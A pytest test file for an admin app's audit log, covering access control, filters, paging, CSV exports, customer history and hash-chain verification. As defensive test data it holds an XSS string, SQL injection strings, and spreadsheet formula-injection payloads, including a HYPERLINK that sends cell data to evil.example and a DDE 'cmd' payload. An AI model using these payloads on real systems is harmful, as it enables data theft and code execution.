"""/admin/audit/: read-only for every role, visible to admin/manager/auditor only; newest first
with no COUNT(*); filters; paged details; CSV exports with formulas escaped; a customer's
history on its details page; the last verification on the dashboard."""

import csv
import io
import re
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa

from admin_app.extensions import db
from admin_app.services import audit_verify, customers
from admin_app.services.audit import Actor
from admin_app.services.history import customer_history
from tests.audit_support import append, build_log, customer_entries, snapshot, tamper
from tests.conftest import ROLES, make_customers

OPERATION_LINK = re.compile(r">#(\d+)</a>")
XSS = '"><img src=x onerror=alert(1)>'


def _listed(client, query: str = "") -> list[int]:
    response = client.get(f"/admin/audit/{query}")
    assert response.status_code == 200, query
    return [int(number) for number in OPERATION_LINK.findall(response.get_data(as_text=True))]


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


# -- read-only, and who may see it ---------------------------------------------------------------


@pytest.mark.parametrize("role", ROLES)
def test_no_role_can_create_edit_or_delete_log_rows(client, login, role):
    [operation_id] = build_log((2,))
    login(role)
    before = snapshot()
    attempts = [
        ("get", "/admin/audit/new/", None),
        ("post", "/admin/audit/new/", {"memo": "forged", "action": "login"}),
        ("get", f"/admin/audit/edit/?id={operation_id}", None),
        ("post", f"/admin/audit/edit/?id={operation_id}", {"memo": "edited"}),
        ("post", "/admin/audit/delete/", {"id": str(operation_id)}),
        ("get", f"/admin/audit/delete/?id={operation_id}", None),
        ("post", "/admin/audit/action/", {"action": "delete", "rowid": str(operation_id)}),
        (
            "post",
            "/admin/audit/ajax/update/",
            {"list_form_pk": str(operation_id), "memo": "edited"},
        ),
    ]
    for method, url, data in attempts:
        response = getattr(client, method)(url, data=data)
        assert response.status_code in (403, 404, 405), (role, method, url, response.status_code)
    assert snapshot() == before
    assert audit_verify.verify_chain().intact


def test_the_log_has_no_create_edit_or_delete_controls(client, login):
    [operation_id] = build_log((1,))
    login("admin")
    page = client.get("/admin/audit/").get_data(as_text=True)
    details = client.get(f"/admin/audit/details/?id={operation_id}").get_data(as_text=True)
    for html in (page, details):
        assert "/admin/audit/new/" not in html
        assert "/admin/audit/edit/" not in html
        assert "/admin/audit/delete/" not in html
    assert 'name="rowid"' not in page  # no bulk actions at all


def test_clerk_gets_403_on_every_log_page(client, login):
    [operation_id] = build_log((1,))
    login("clerk")
    for url in (
        "/admin/audit/",
        f"/admin/audit/details/?id={operation_id}",
        "/admin/audit/export/csv/",
        f"/admin/audit/entries/export/csv/?id={operation_id}",
    ):
        assert client.get(url).status_code == 403, url


def test_anonymous_entries_export_goes_to_login(client):
    response = client.get("/admin/audit/entries/export/csv/?id=1")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login?next=")


# -- the list ----------------------------------------------------------------------------------


def test_list_is_newest_first_and_runs_no_count(app, client, login):
    ids = build_log((0,) * 45)
    login("auditor")
    newest = max(ids)  # the auditor's login is under Sign-ins
    statements = []

    def record(conn, cursor, statement, *args):
        statements.append(statement.lower())

    sa.event.listen(db.engine, "before_cursor_execute", record)
    try:
        first = _listed(client)
        second = _listed(client, "?page=1")
    finally:
        sa.event.remove(db.engine, "before_cursor_execute", record)
    assert first == list(range(newest, newest - 20, -1))
    assert second == list(range(newest - 20, newest - 40, -1))
    log_queries = [s for s in statements if "audit_operations" in s]
    assert log_queries and not [s for s in log_queries if "count(" in s]


@pytest.fixture
def varied_log(monkeypatch):
    """Three operations by two actors on three days, for the filters (on customers T00001-3)."""
    make_customers(3)

    def at(day: str):
        moment = datetime.fromisoformat(day).replace(tzinfo=UTC)
        monkeypatch.setattr("admin_app.services.audit.utcnow", lambda: moment)

    alice = Actor(id=None, username="alice", role="manager")
    bob = Actor(id=None, username="bob", role="manager")
    at("2026-01-10T09:00:00")
    first = append(
        "deactivate",
        customer_entries(1, start=1),
        actor=alice,
        reason_code="non_payment",
        memo="overdue since March",
    )
    at("2026-02-15T23:59:59")
    second = append(
        "freeze",
        customer_entries(1, start=2),
        actor=bob,
        reason_code="fraud_suspected",
        memo="chargebacks",
    )
    at("2026-03-20T12:00:00")
    third = append(
        "reactivate",
        [*customer_entries(1, start=1), *customer_entries(1, start=3)],
        actor=alice,
        reason_code="issue_resolved",
        memo="paid in full",
    )
    monkeypatch.undo()
    return first, second, third


@pytest.mark.parametrize(
    "query, expected",
    [
        ("?flt0_actor_equals=alice", (2, 0)),
        ("?flt0_actor_contains=bo", (1,)),
        ("?flt0_action_equals=freeze", (1,)),
        ("?flt0_reason_equals=fraud_suspected", (1,)),
        ("?flt0_day_utc_between=2026-02-15+to+2026-03-20", (2, 1)),
        ("?flt0_day_utc_between=2026-01-10+to+2026-01-10", (0,)),
        (
            (
                "?flt0_when_utc_greater_than=2026-02-15+23:59:58"
                "&flt1_when_utc_smaller_than=2026-03-20+12:00:01"
            ),
            (2, 1),
        ),
        ("?flt0_customer_code_equals=T00001", (2, 0)),
        ("?flt0_customer_code_equals=T00003", (2,)),
        ("?flt0_actor_equals=alice&flt1_customer_code_equals=T00003", (2,)),
        ("?search=chargebacks", (1,)),
        ("?flt0_customer_code_equals=T99999", ()),
    ],
)
def test_filters_select_exactly_the_matching_operations(client, login, varied_log, query, expected):
    login("auditor")
    assert _listed(client, query) == [varied_log[i] for i in expected]


@pytest.mark.parametrize(
    "typed, expected",
    [
        ("fraud_suspected", (1,)),
        ("Suspected+fraud", (1,)),
        ("FRAUD_SUSPECTED", (1,)),
        ("疑似詐欺", (1,)),  # Traditional
        ("逾期未付款", (0,)),  # Simplified
        ("nothing+like+it", ()),
    ],
)
def test_the_reason_filter_takes_what_the_reader_reads(
    client, login, reasons, varied_log, typed, expected
):
    """The log stores reason codes; a reader types a label in their language (or the code)."""
    login("auditor")
    assert _listed(client, f"?flt0_reason_equals={typed}") == [varied_log[i] for i in expected]


def test_action_filter_offers_the_known_actions(client, login):
    login("auditor")
    page = client.get("/admin/audit/").get_data(as_text=True)
    for action in ("deactivate", "freeze", "reactivate", "login", "customer_edit"):
        assert f'"{action}"' in page


@pytest.mark.parametrize(
    "query",
    [
        "?flt0_day_utc_between=garbage",
        "?flt0_day_utc_between=2026-03-01+to+2026-01-01",
        "?flt0_day_utc_between=9999-12-31+to+9999-12-31",
        "?flt0_when_utc_greater_than=yesterday",
        "?flt0_customer_code_equals=",
        "?flt0_customer_code_equals=%27%20OR%201=1%20--",
        "?page=-1",
        "?page=abc",
        "?page=99999999",
        "?sort=99",
        "?page_size=1000000",
        "?search=%25%27%20OR%201=1%20--",
    ],
)
def test_bad_list_parameters_never_fail(client, login, query):
    build_log((1, 1))
    login("auditor")
    response = client.get(f"/admin/audit/{query}")
    assert response.status_code == 200, query
    assert len(OPERATION_LINK.findall(response.get_data(as_text=True))) <= 3


# -- details -----------------------------------------------------------------------------------


def test_details_show_the_operation_and_its_entries_a_page_at_a_time(client, login):
    operation_id = append(
        "deactivate",
        customer_entries(250),
        reason_code="duplicate",
        scope={"filter": {"status": "active"}, "ids": [1, 2]},
    )
    login("auditor")

    first = client.get(f"/admin/audit/details/?id={operation_id}").get_data(as_text=True)
    assert "1–100 of 250" in first
    assert first.count('<td class="audit-value"') == 200  # old and new for 100 entries
    assert "T00001" in first and "T00101" not in first
    assert "&#34;filter&#34;: {\n    &#34;status&#34;: &#34;active&#34;\n  }" in first
    db.session.rollback()
    stored = db.session.execute(
        sa.text(f"SELECT prev_hash, hash FROM audit_operations WHERE id = {operation_id}")
    ).one()
    assert stored.hash in first and stored.prev_hash in first

    last = client.get(f"/admin/audit/details/?id={operation_id}&entries_page=2")
    html = last.get_data(as_text=True)
    assert "201–250 of 250" in html
    assert html.count('<td class="audit-value"') == 100
    assert "T00201" in html and "T00200" not in html
    for page in ("99", "-3", "abc", "1" + "0" * 30):
        response = client.get(f"/admin/audit/details/?id={operation_id}&entries_page={page}")
        assert response.status_code == 200, page
        assert "of 250" in response.get_data(as_text=True)
    assert "201–250 of 250" in client.get(
        f"/admin/audit/details/?id={operation_id}&entries_page=99"
    ).get_data(as_text=True)


def test_details_of_an_operation_without_entries(client, login):
    operation_id = append("seed_demo", scope={"customers": 5})
    login("auditor")
    html = client.get(f"/admin/audit/details/?id={operation_id}").get_data(as_text=True)
    assert "This operation changed no fields." in html
    assert "export-entries" not in html


@pytest.mark.parametrize(
    "bad_id", ["abc", "0", "-1", "", "1.0", "99999999999", "2147483648", "１２"]
)
def test_bad_operation_ids_are_refused_cleanly(client, login, bad_id):
    build_log((1,))
    login("auditor")
    details = client.get(f"/admin/audit/details/?id={bad_id}")
    assert details.status_code == 302
    assert details.headers["Location"].startswith("/admin/audit/")
    export = client.get(f"/admin/audit/entries/export/csv/?id={bad_id}")
    assert export.status_code == 404


def test_missing_operation_details_redirect_to_the_list(client, login):
    [operation_id] = build_log((1,))
    login("auditor")
    response = client.get(f"/admin/audit/details/?id={operation_id + 100}")
    assert response.status_code == 302
    assert (
        client.get(f"/admin/audit/entries/export/csv/?id={operation_id + 100}").status_code == 404
    )


# -- exports -----------------------------------------------------------------------------------


def test_operations_export_escapes_spreadsheet_formulas(client, login):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    operation_id = append("freeze", customer_entries(1), memo=formula)
    login("auditor")
    rows = _csv(client.get("/admin/audit/export/csv/"))
    header, body = rows[0], rows[1:]
    memo = header.index("Memo")
    [row] = [r for r in body if r[0] == str(operation_id)]
    assert row[memo] == "'" + formula
    assert "Hash" in header and "Previous hash" in header


def test_entries_export_streams_every_entry_with_formulas_escaped(client, login):
    entries = [
        *customer_entries(2500, new="frozen"),
        ("customer", 9001, "+SUM(A1)", "name", "@import", "=cmd|' /C calc'!A0"),
    ]
    operation_id = append(
        "customer_edit", entries, memo="=1+1 looks like a formula", reason_code="duplicate"
    )
    login("auditor")
    response = client.get(f"/admin/audit/entries/export/csv/?id={operation_id}")
    assert response.is_streamed
    assert f"operation-{operation_id}-entries.csv" in response.headers["Content-Disposition"]
    rows = _csv(response)
    assert rows[0] == [
        "operation_id",
        "created_at",
        "actor",
        "action",
        "reason_code",
        "memo",
        "entry_id",
        "entity",
        "entity_id",
        "entity_label",
        "field",
        "old_value",
        "new_value",
        "action_label",
        "reason_label",
        "customer_name",
        "field_label",
        "old_value_label",
        "new_value_label",
    ]
    assert len(rows) == 1 + 2501
    first, last = rows[1], rows[-1]
    assert first[0] == str(operation_id)
    assert first[2:6] == ["tester", "customer_edit", "duplicate", "'=1+1 looks like a formula"]
    assert first[7:13] == ["customer", "1", "T00001", "status", "active", "frozen"]
    assert first[13:] == ["Customer edited", "duplicate", "", "Status", "Active", "Frozen"]
    assert last[9:13] == ["'+SUM(A1)", "name", "'@import", "'=cmd|' /C calc'!A0"]
    assert last[16:] == ["Name", "'@import", "'=cmd|' /C calc'!A0"]


# -- escaping ----------------------------------------------------------------------------------


def test_memo_markup_is_escaped_in_list_details_and_history(client, login):
    [customer_id] = make_customers(1)
    operation_id = append(
        "freeze", [("customer", customer_id, "T00001", "status", "active", XSS)], memo=XSS
    )
    login("auditor")
    for url in (
        "/admin/audit/",
        f"/admin/audit/details/?id={operation_id}",
        f"/admin/customers/details/?id={customer_id}",
    ):
        html = client.get(url).get_data(as_text=True)
        assert "<img src=x" not in html, url
        assert "&lt;img src=x onerror=alert(1)&gt;" in html, url


# -- customer history --------------------------------------------------------------------------


def test_customer_details_show_its_history_newest_first(client, login):
    [customer_id, other_id] = make_customers(2)
    actor = Actor(id=None, username="mona", role="manager")
    customers.update_details(customer_id, {"name": "Renamed Ltd"}, expected_version=1, actor=actor)
    status_op = append(
        "freeze",
        [
            ("customer", customer_id, "T00001", "status", "active", "frozen"),
            ("customer", other_id, "T00002", "status", "active", "frozen"),
        ],
        actor=actor,
        reason_code="non_payment",
        memo="three invoices overdue",
    )
    login("auditor")
    html = client.get(f"/admin/customers/details/?id={customer_id}").get_data(as_text=True)
    history = html[html.index('id="customer-history"') :]
    assert history.index("Frozen") < history.index("Renamed Ltd")  # newest first
    assert "Test Customer 1 → Renamed Ltd" in history
    assert "Active → Frozen" in history
    assert "three invoices overdue" in history and "non_payment" in history
    assert f'href="/admin/audit/details/?id={status_op}"' in history
    assert "T00002" not in history  # only this customer's entries
    assert "mona" in history


def test_customer_history_is_only_for_roles_that_see_the_log(client, login):
    [customer_id] = make_customers(1)
    append("freeze", customer_entries(1, start=1), memo="secret memo")
    db.session.rollback()
    login("clerk")
    html = client.get(f"/admin/customers/details/?id={customer_id}").get_data(as_text=True)
    assert "customer-history" not in html and "secret memo" not in html
    assert "Test Customer 1" in html


def test_customer_without_history_says_so(client, login):
    [customer_id] = make_customers(1)
    login("auditor")
    html = client.get(f"/admin/customers/details/?id={customer_id}").get_data(as_text=True)
    assert "No changes logged for this customer yet." in html


def test_customer_history_is_limited_and_says_so(app):
    [customer_id] = make_customers(1)
    ids = [
        append("customer_edit", [("customer", customer_id, "T00001", "name", str(n), str(n + 1))])
        for n in range(5)
    ]
    history = customer_history(customer_id, limit=3)
    assert [item.operation_id for item in history.items] == ids[:-4:-1]
    assert history.truncated
    assert not customer_history(customer_id, limit=5).truncated


# -- dashboard ---------------------------------------------------------------------------------


def test_dashboard_shows_the_last_verification(client, login):
    ids = build_log((1, 1, 1))
    login("auditor")
    assert "Operation log never verified." in client.get("/admin/").get_data(as_text=True)
    audit_verify.verify_chain()
    assert "Log verified intact at" in client.get("/admin/").get_data(as_text=True)
    tamper(f"UPDATE audit_operations SET memo = 'x' WHERE id = {ids[1]}")
    audit_verify.verify_chain()
    html = client.get("/admin/").get_data(as_text=True)
    assert f"Log verification FAILED at operation #{ids[1]}" in html
    assert "Log verified intact" not in html


def test_the_log_is_only_appended_inside_the_write_transaction(app):
    """One lock-taker: append_operation relies on write_transaction's lock and refuses to run
    without it (an append outside would extend the chain unserialised)."""
    from admin_app.services.audit import NewOperation, append_operation

    count = sa.text("SELECT count(*) FROM audit_operations")
    before = db.session.execute(count).scalar()
    with pytest.raises(RuntimeError, match="write_transaction"):
        append_operation(NewOperation(actor=Actor.cli(), action="customer_edit"))
    db.session.rollback()
    assert db.session.execute(count).scalar() == before
    append()  # through write_transaction
    assert db.session.execute(count).scalar() == before + 1
